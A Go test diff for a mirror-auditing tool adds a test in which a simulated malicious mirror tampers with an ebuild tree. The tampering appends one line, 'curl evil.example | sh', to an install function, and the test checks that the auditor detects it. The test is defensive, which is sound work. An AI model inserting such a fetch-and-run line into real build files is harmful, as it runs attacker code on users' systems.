@@ -3,6 +3,7 @@ package audit_test
 import (
 	"context"
 	"fmt"
+	"io/fs"
 	"log/slog"
 	"net/http"
 	"net/http/httptest"
@@ -96,7 +97,7 @@ func (w *world) auditor(t *testing.T, policyText string, mod func(*audit.Config)
 	}
 	cfg := audit.Config{Policy: pol, Publishers: w.pubs, StateDir: t.TempDir(), Log: slog.New(slog.DiscardHandler),
 		Mirrors:   []audit.Mirror{{Name: "honest", URL: w.honestURL}, {Name: "evil", URL: w.evilURL}},
-		MirrorLag: 30 * time.Minute}
+		MirrorLag: 30 * time.Minute, MirrorFiles: -1}
 	if mod != nil {
 		mod(&cfg)
 	}
@@ -183,6 +184,65 @@ func TestMirrorFreeze(t *testing.T) {
 	if !strings.Contains(al[0].Message, "mirror evil is frozen: it still serves example.org/tree snapshot "+w.snaps[1].Time.Format(time.RFC3339)) ||
 		!strings.Contains(al[0].Message, "at index 2") {
 		t.Errorf("alert: %s", al[0].Message)
+	}
+}
+
+// TestMirrorTampered: a mirror serves the newest snapshot with one file
+// changed and one removed; checking every file finds both, with the
+// MetaManifest, the Manifest that lists the file and the served bytes as
+// evidence. Sampling finds a tree whose files are all changed.
+func TestMirrorTampered(t *testing.T) {
+	w := shared
+	dir := filepath.Join(t.TempDir(), "tree")
+	if err := mirror.CopyTree(w.snaps[2].Dir, dir); err != nil {
+		t.Fatal(err)
+	}
+	var files []string
+	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
+		if d.Type().IsRegular() && strings.HasSuffix(p, ".ebuild") {
+			files = append(files, p)
+		}
+		return nil
+	})
+	sort.Strings(files)
+	changed, removed := files[0], files[1]
+	os.WriteFile(changed, append(read(changed), "\nsrc_install() { curl evil.example | sh; }\n"...), 0o644)
+	os.Remove(removed)
+	w.evil.SetDir(dir)
+	a := w.auditor(t, "", nil)
+	pass(t, a)
+	al := expect(t, a, "mirror-tampered")
+	rel := func(p string) string { r, _ := filepath.Rel(dir, p); return filepath.ToSlash(r) }
+	for _, want := range []string{"mirror evil serves example.org/tree snapshot", "2 of ",
+		rel(changed) + ": ", rel(removed) + ": listed in the Manifest, but the mirror does not serve it"} {
+		if !strings.Contains(al[0].Message, want) {
+			t.Errorf("alert %q lacks %q", al[0].Message, want)
+		}
+	}
+	if len(al[0].Evidence) < 2 || !strings.Contains(string(read(al[0].Evidence[0])), "example.org/tree") {
+		t.Errorf("evidence: %v", al[0].Evidence)
+	}
+	st := a.Status()
+	for _, m := range st.Mirrors {
+		if m.Name == "evil" && (m.FilesBad != 2 || m.FilesChecked < len(files)) || m.Name == "honest" && (m.FilesBad != 0 || m.FilesChecked < len(files)) {
+			t.Errorf("mirror %s: %d files checked, %d bad", m.Name, m.FilesChecked, m.FilesBad)
+		}
+	}
+
+	// Every file but the Manifests changed: a sample of 8 finds them.
+	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
+		if d.Type().IsRegular() && !strings.HasPrefix(d.Name(), "Manifest") && !strings.Contains(p, metamanifest.Dir) {
+			os.WriteFile(p, append(read(p), '#'), 0o644)
+		}
+		return nil
+	})
+	b := w.auditor(t, "", func(c *audit.Config) { c.MirrorFiles = 8 })
+	pass(t, b)
+	expect(t, b, "mirror-tampered")
+	for _, m := range b.Status().Mirrors {
+		if m.FilesChecked != 8 {
+			t.Errorf("mirror %s: %d files sampled, want 8", m.Name, m.FilesChecked)
+		}
 	}
 }
 
